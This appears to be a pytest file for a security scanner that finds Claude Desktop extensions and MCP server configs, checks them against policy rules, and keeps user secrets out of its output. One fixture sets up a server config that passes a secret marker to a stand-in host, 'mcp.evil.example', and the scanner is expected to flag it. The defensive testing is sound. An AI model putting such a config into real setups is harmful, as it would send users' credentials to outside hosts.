"""Claude Desktop's extensions (MCP Bundles, once DXT) are MCP servers that no config file lists: each is a folder
of `Claude Extensions` in Claude Desktop's data folder whose `manifest.json` says how its server starts. An
install whose servers all came that way has an empty `claude_desktop_config.json`, and aicheck saw no server at
all. The packaged (MSIX) Windows install keeps the same files in its own folder, where neither the config nor
the extensions were looked for."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import jsonschema
import pytest

from tui.cli import main
from tui.core.content import read_pack
from tui.core.scanner import scan
from tui.paths import bundled_content_dir

SCHEMAS = Path(__file__).resolve().parents[2] / "tui" / "schemas"
SECRET = "SECRET-MARKER-dxt-4f1a"
MSIX = "{localappdata}/Packages/Claude_pzs8sxrjxfjjc/LocalCache/Roaming/Claude"


def _data_folder(m, msix: bool = False) -> str:
    if msix:
        return MSIX.replace("{localappdata}", m.machine().home.rstrip("/") + "/AppData/Local")
    return m.ud + "/Claude"


def _bundled(name: str, version: str = "0.2.2") -> dict:
    """A manifest whose server runs the extension's own files (most extensions)."""
    return {
        "manifest_version": "0.2",
        "name": name.lower(),
        "display_name": name,
        "version": version,
        "server": {
            "type": "node",
            "entry_point": "dist/index.js",
            "mcp_config": {
                "command": "node",
                "args": ["${__dirname}/dist/index.js", "${user_config.allowed_directories}"],
                "env": {"API_KEY": SECRET},
            },
        },
    }


def _launched(command: str, args: list[str]) -> dict:
    return {
        "name": "x",
        "version": "1.0.0",
        "server": {"type": "node", "mcp_config": {"command": command, "args": args}},
    }


def run(capsys, *argv) -> tuple[int, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out + err


def _pack_with(tmp_path, rules: str) -> Path:
    dest = tmp_path / "pack"
    shutil.copytree(bundled_content_dir(), dest)
    (dest / "policy.toml").write_text((dest / "policy.toml").read_text() + rules)
    return dest


@pytest.mark.parametrize(
    "platform_name, msix", [("macos", False), ("windows", False), ("windows", True), ("linux", False)]
)
def test_each_extension_is_an_mcp_server(capsys, machine_factory, pack, platform_name, msix):
    m = machine_factory(platform_name)
    folder = _data_folder(m, msix) + "/Claude Extensions"
    m.write_json(folder + "/ant.dir.ant.anthropic.filesystem/manifest.json", _bundled("Filesystem"))
    m.write_json(
        folder + "/local.mcpb.acme.github/manifest.json",
        _launched("npx", ["-y", "@modelcontextprotocol/server-github@2025.4.8"]),
    )
    # the values the user gave each extension, API keys among them: never read
    settings = m.write_json(
        _data_folder(m, msix) + "/Claude Extensions Settings/ant.dir.ant.anthropic.filesystem.json",
        {"isEnabled": True, "userConfig": {"token": SECRET}},
    )
    report = scan(m.machine(), pack)
    found = {f.item.name: f for f in report.surface.servers}
    files = found["Filesystem"]
    assert files.item.client == "claude-desktop" and files.item.key == "server.mcp_config"
    assert files.item.command == "claude-extension:ant.dir.ant.anthropic.filesystem"
    assert files.item.args == ("node", "${__dirname}/dist/index.js", "${user_config.allowed_directories}")
    assert files.item.version == "0.2.2" and files.item.env_names == ("API_KEY",)
    assert files.verdict == "unreviewed"  # the example pack has no rule for it: its default
    github = found["x"]  # what an npx line runs is what it is: the approved package
    assert (github.item.npm, github.item.version, github.verdict) == (
        "@modelcontextprotocol/server-github",
        "2025.4.8",
        "approved",
    )
    read = [p[len(str(m.root)) :] for p in report.audit.paths_read]
    assert m.machine().display(settings) not in read and not any("Extensions Settings" in p for p in read)
    code, out = run(capsys, "check", "--json", *m.cli_args())
    assert code == 0  # unreviewed and approved servers need no action in the example pack
    data = json.loads(out)
    jsonschema.validate(data, json.loads((SCHEMAS / "scan-report.schema.json").read_text()))
    assert {s["command"] for s in data["mcp_servers"]} >= {"claude-extension:ant.dir.ant.anthropic.filesystem", "npx"}
    assert SECRET not in out + run(capsys, "scan", "--explain", *m.cli_args())[1]


def test_a_policy_rule_names_extensions_and_the_fix_is_to_remove_the_extension(capsys, machine_factory, tmp_path):
    """A rule matches an extension by its id (`command = "claude-extension:…"`, globs as for any command);
    the fix is removing the extension in Claude Desktop, never editing its manifest."""
    pack_dir = _pack_with(
        tmp_path,
        '\n[[mcp.rules]]\nmatch = { command = "claude-extension:local.*" }\nstatus = "prohibited"\n'
        'rationale = "Extensions from outside the directory are not reviewed."\n',
    )
    m = machine_factory("macos")
    folder = m.ud + "/Claude/Claude Extensions"
    m.write_json(folder + "/ant.dir.ant.anthropic.filesystem/manifest.json", _bundled("Filesystem"))
    manifest = m.write_json(folder + "/local.unpacked.scraper/manifest.json", _bundled("Scraper", "0.0.1"))
    found = {f.item.name: f for f in scan(m.machine(), read_pack(pack_dir)[0]).surface.servers}
    scraper = found["Scraper"]
    assert scraper.verdict == "prohibited" and found["Filesystem"].verdict == "unreviewed"
    shown_folder = m.machine().display(manifest).rsplit("/", 1)[0]
    assert scraper.fix == (
        f"remove the extension 'Scraper' in Claude Desktop (Settings, Extensions); it is installed in {shown_folder}"
    )
    code, out = run(capsys, "check", "--content", str(pack_dir), *m.cli_args())
    assert code == 1 and "MCP server Scraper (Claude Desktop extension local.unpacked.scraper" in out
    assert "remove the extension 'Scraper' in Claude Desktop" in out and SECRET not in out


def test_the_packaged_windows_install_keeps_its_config_apart(capsys, machine_factory):
    """Claude Desktop installed as a package (MSIX) reads `claude_desktop_config.json` from its own folder under
    `%LOCALAPPDATA%\\Packages`: a remote server there was not seen."""
    m = machine_factory("windows")
    config = m.write_json(
        _data_folder(m, msix=True) + "/claude_desktop_config.json",
        {
            "mcpServers": {
                "notes": {"command": "npx", "args": ["-y", "mcp-remote", f"https://mcp.evil.example/{SECRET}"]}
            }
        },
    )
    code, out = run(capsys, "check", *m.cli_args())
    assert code == 1 and "MCP server notes (Claude Desktop, npm mcp-remote): prohibited" in out
    assert m.machine().display(config) in out and SECRET not in out


def test_broken_missing_and_too_many_extensions(capsys, machine_factory, pack):
    """A manifest that cannot be read is an unchecked config (it needs action: breaking it hides nothing); a
    manifest without a line is the extension's own files; a folder padded past the bound is unchecked, and
    what is past it is neither read nor listed."""
    m = machine_factory("macos")
    folder = m.ud + "/Claude/Claude Extensions"
    broken = m.write(folder + "/local.broken/manifest.json", '{"name": "b", "server": ')
    m.write_json(folder + "/local.bare/manifest.json", {"name": "bare", "server": {"type": "binary"}})
    m.write(folder + "/a-file-not-a-folder.json", "{}")
    report = scan(m.machine(), pack)
    found = {f.item.name: f.item for f in report.surface.servers}
    assert found["bare"].command == "claude-extension:local.bare" and found["bare"].transport == "stdio"
    assert [(u.config, u.holds) for u in report.surface.unchecked] == [(m.machine().display(broken), "MCP servers")]
    code, out = run(capsys, "check", *m.cli_args())
    assert code == 1 and f"Cannot check {m.machine().display(broken)}" in out

    for i in range(105):
        m.write_json(folder + f"/pad.{i:03d}/manifest.json", _bundled(f"Pad {i:03d}"))
    report = scan(m.machine(), pack)
    names = {f.item.name for f in report.surface.servers}
    # by id: local.bare, local.broken, then pad.000 to pad.097 are the first 100
    assert {f"Pad {i:03d}" for i in range(98)} <= names and not names & {f"Pad {i:03d}" for i in range(98, 105)}
    assert any(u.config == m.machine().display(folder) and "extensions" in u.reason for u in report.surface.unchecked)
    assert sum("/manifest.json" in p for p in report.audit.paths_read) == 100
